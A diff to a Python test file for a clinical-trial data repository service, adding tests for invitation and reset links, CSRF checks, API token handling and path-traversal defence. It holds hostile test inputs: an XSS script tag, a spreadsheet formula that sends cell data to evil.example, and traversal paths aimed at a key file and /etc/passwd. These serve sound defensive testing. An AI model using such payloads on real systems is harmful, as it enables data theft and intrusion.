@@ -9,6 +9,11 @@ trial's trialist: ``test_policy.py``, on the same kind of server.)
 from __future__ import annotations
 
 import io
+import json
+import os
+import re
+import subprocess
+import sys
 from datetime import timedelta
 from typing import Any
 
@@ -19,7 +24,15 @@ from sqlalchemy import func, select, update
 
 from repository.models import ApiToken, QueryAttachment, Upload, WebSession, utcnow
 from repository.service.secret_tokens import digest
-from tests.service.world import PASSWORD, Server, World, bearer, delivery_csv, sign_in
+from tests.service.world import (
+    PASSWORD,
+    ROOT,
+    Server,
+    World,
+    bearer,
+    delivery_csv,
+    sign_in,
+)
 
 HOSTILE = ['<script>alert("x")</script>', '=HYPERLINK("http://evil.example/?d="&A1,"click")']
 
@@ -290,3 +303,145 @@ def test_chosen_file_names_are_checked_not_rewritten() -> None:
         with pytest.raises(ConfigError):
             check_file_name(bad)
     assert check_file_name("GAST 01 (re-delivery).xlsx") == "GAST 01 (re-delivery).xlsx"
+
+
+def _cli(world: World, server: Server, *args: str, env: dict[str, str] | None = None
+         ) -> subprocess.CompletedProcess[str]:
+    """``ipdrepo ARGS`` as the curator on the server's workspace (or with ``env``: a bare
+    client)."""
+    if env is None:
+        env = {k: v for k, v in os.environ.items() if not k.startswith("IPDREPO_")}
+        env.update({"IPDREPO_USER": "cur", "IPDREPO_DATABASE_URL": world.database_url,
+                    "IPDREPO_PUBLIC_URL": server.url, "IPDREPO_WORKSPACE": str(world.workspace)})
+    done = subprocess.run([sys.executable, "-m", "repository", *args], env=env, cwd=ROOT,
+                          capture_output=True, text=True, timeout=300)
+    assert done.returncode == 0, done.stdout + done.stderr
+    return done
+
+
+def _link_form(client: httpx.Client, url: str) -> tuple[str, str, str]:
+    """Open a one-time link as a browser does: (page path, form token, link token)."""
+    path, token = url.removeprefix(client.base_url.__str__().rstrip("/")).split("#", 1)
+    page = client.get(path)  # the fragment stays in the browser
+    assert page.status_code == 200, page.text
+    assert '<script src="/link.js">' in page.text and 'name="token"' in page.text
+    form = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
+    assert form is not None
+    return path, form.group(1), token
+
+
+NEW_PASSWORD = "another horse battery staple"
+
+
+def test_invitation_link_sets_the_password_once(server: Server, world: World) -> None:
+    made = _cli(world, server, "user", "invite", "new.tri", "--role", "trialist",
+                "--trial", "ALPHA-1", "--email", "new.tri@alpha-1.example.org", "--json")
+    url = json.loads(made.stdout)["url"]
+    assert url.startswith(f"{server.url}/welcome#")
+    with server.client() as client:
+        script = client.get("/link.js")
+        assert script.status_code == 200 and "location.hash" in script.text
+        assert script.headers["content-type"].startswith("text/javascript")
+        path, form, token = _link_form(client, url)
+        fields = {"token": token, "password": PASSWORD, "confirm": PASSWORD, "csrf_token": form}
+        with server.client() as forger:  # another site posting the form: no form cookie
+            assert forger.post(path, data=fields).status_code == 403
+        differ = client.post(path, data={**fields, "confirm": NEW_PASSWORD})
+        assert differ.status_code == 400 and "differ" in differ.text
+        weak = client.post(path, data={**fields, "password": "short", "confirm": "short"})
+        assert weak.status_code == 400
+        assert sign_in(client, "new.tri").status_code == 401  # nothing set yet
+        done = client.post(path, data=fields, follow_redirects=False)
+        assert done.status_code == 303 and done.headers["location"] == "/sign-in"
+        assert client.post(path, data=fields).status_code == 403  # the form was used up
+        _, form, _ = _link_form(client, url)  # the link opened again: used already
+        again = client.post(path, data={**fields, "csrf_token": form})
+        assert again.status_code == 400 and "not valid" in again.text
+        me = sign_in(client, "new.tri")
+        assert me.status_code == 200 and me.json()["trial"] == "ALPHA-1"
+
+
+def test_password_reset_link_ends_sessions_and_replaces_the_password(server: Server,
+                                                                     world: World) -> None:
+    made = _cli(world, server, "user", "invite", "forgetful", "--role", "analyst", "--json")
+    with server.client() as client:
+        _, _, token = _link_form(client, json.loads(made.stdout)["url"])
+        assert client.post("/api/v1/auth/links/redeem",
+                           json={"token": token, "password": PASSWORD}).status_code == 200
+        assert sign_in(client, "forgetful").status_code == 200
+        assert client.get("/api/v1/auth/me").status_code == 200
+        reset = _cli(world, server, "user", "reset-link", "forgetful", "--json")
+        url = json.loads(reset.stdout)["url"]
+        assert url.startswith(f"{server.url}/reset#")
+        assert client.get("/api/v1/auth/me").status_code == 401  # the session has ended
+        with server.client() as browser:
+            path, form, token = _link_form(browser, url)
+            done = browser.post(path, data={"token": token, "password": NEW_PASSWORD,
+                                            "confirm": NEW_PASSWORD, "csrf_token": form},
+                                follow_redirects=False)
+            assert done.status_code == 303, done.text
+        assert sign_in(client, "forgetful").status_code == 401  # the old password is gone
+        assert sign_in(client, "forgetful", NEW_PASSWORD).status_code == 200
+
+
+def test_tokens_are_shown_once_listed_without_secret_and_revoked(server: Server,
+                                                                 world: World,
+                                                                 tmp_path: Any) -> None:
+    made = json.loads(_cli(world, server, "token", "create", "cli-made", "--expires", "2",
+                           "--json").stdout)
+    token = made["token"]
+    with server.client() as client:
+        me = client.get("/api/v1/auth/me", headers=bearer(token))
+        assert me.status_code == 200 and me.json()["user"] == "cur"
+    store = world.store()
+    try:
+        with store.reading() as session:
+            row = session.scalars(select(ApiToken).where(ApiToken.name == "cli-made")).one()
+            assert row.token_hash == digest(token)
+            assert token not in json.dumps({c.name: str(getattr(row, c.name))
+                                            for c in ApiToken.__table__.columns})
+    finally:
+        store.close()
+    listed = _cli(world, server, "token", "list", "--json").stdout
+    assert "cli-made" in listed and token not in listed
+    _cli(world, server, "token", "revoke", "cli-made")
+    with server.client() as client:
+        assert client.get("/api/v1/auth/me", headers=bearer(token)).status_code == 401
+    # a trialist manages their own tokens through the server, with nothing but a token
+    home = tmp_path / "home"
+    creds = home / ".config" / "ipdrepo" / "credentials.json"
+    creds.parent.mkdir(parents=True)
+    creds.write_text(json.dumps({server.url: world.tokens["tri.a"]}))
+    os.chmod(creds, 0o600)
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("IPDREPO_", "AWS_", "PG"))}
+    env.update({"HOME": str(home), "PYTHONPATH": str(ROOT), "IPDREPO_SERVER": server.url})
+    second = json.loads(_cli(world, server, "token", "create", "laptop", "--json",
+                             env=env).stdout)["token"]
+    listed = _cli(world, server, "token", "list", "--json", env=env).stdout
+    assert "laptop" in listed and second not in listed and "cli-made" not in listed
+    _cli(world, server, "token", "revoke", "laptop", env=env)
+    with server.client() as client:
+        assert client.get("/api/v1/auth/me", headers=bearer(second)).status_code == 401
+        assert client.get("/api/v1/auth/me",
+                          headers=bearer(world.tokens["tri.a"])).status_code == 200
+
+
+def test_names_in_paths_never_reach_files(server: Server, world: World) -> None:
+    """Names a caller puts in a URL (extract file, release version, request code, attachment)
+    are looked up, never joined to a path: traversal finds nothing."""
+    extract = world.extras["extract:REQ-OK"]
+    attempts = [f"/api/v1/requests/REQ-OK/extracts/{extract}/files/..%2F..%2Fkeys%2Fpseudonym.key",
+                f"/api/v1/requests/REQ-OK/extracts/{extract}/files/..",
+                f"/api/v1/requests/REQ-OK/extracts/{extract}/files/%2Fetc%2Fpasswd",
+                "/api/v1/releases/..%2F..%2Fkeys", "/api/v1/releases/../data",
+                "/api/v1/requests/..%2FREQ-OK", "/api/v1/requests/REQ-OK%2F..%2FREQ-OLD/dua",
+                f"/api/v1/queries/{world.queries['ALPHA-1']}/attachments/..%2F1"]
+    with server.client() as client:
+        for who in ("cur", "ana.ok"):
+            for path in attempts:
+                got = client.get(path, headers=bearer(world.tokens[who]))
+                assert got.status_code in (403, 404, 405, 422), (who, path, got.status_code)
+                assert b"%PDF" not in got.content and b"PAR1" not in got.content
+        got = client.post("/api/v1/users", headers=bearer(world.tokens["cur"]),
+                          json={"name": "../../evil", "role": "analyst"})
+        assert got.status_code == 400, got.text
